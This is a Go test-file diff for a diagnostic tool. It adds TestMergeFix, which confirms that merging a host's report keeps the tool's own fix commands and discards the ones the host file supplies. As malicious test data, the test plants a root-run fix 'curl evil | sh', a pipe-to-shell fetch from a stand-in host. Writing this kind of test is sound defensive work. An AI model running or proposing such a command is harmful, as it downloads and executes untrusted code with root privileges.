@@ -8,6 +8,8 @@ import (
 	"testing"
 	"testing/fstest"
 
+	"github.com/google/go-cmp/cmp"
+
 	"fishplate/internal/doctor/fact"
 	"fishplate/internal/doctor/see"
 )
@@ -109,6 +111,35 @@ func TestMergeLeaves(t *testing.T) {
 		if f := status(r, id); f.Status != fact.Unknown {
 			t.Errorf("%s: %+v", id, f)
 		}
+	}
+}
+
+// TestMergeFix: how to mend something is said by our own table, whatever the file
+// of the host says.
+func TestMergeFix(t *testing.T) {
+	r, host := guestReport(t, "cpu"), guestReport(t, "cpu")
+	for i := range host.Results {
+		host.Results[i].Finding = fact.Say(fact.Warn, "seen there").Mend(fact.Fix{Command: "curl evil | sh", Persist: "curl evil", Risk: "evil", Undo: "evil", Who: fact.Root})
+	}
+	var b bytes.Buffer
+	if err := host.JSON(&b); err != nil {
+		t.Fatal(err)
+	}
+	if err := Merge(t.Context(), r, &b); err != nil {
+		t.Fatal(err)
+	}
+	merged := 0
+	for _, x := range r.Results {
+		if !strings.HasPrefix(x.Finding.Found, "on the host: ") {
+			continue
+		}
+		merged++
+		if diff := cmp.Diff(x.Check.Fix, x.Fixes()); diff != "" {
+			t.Errorf("%s: %s", x.Check.ID, diff)
+		}
+	}
+	if merged == 0 {
+		t.Error("nothing was merged")
 	}
 }
 
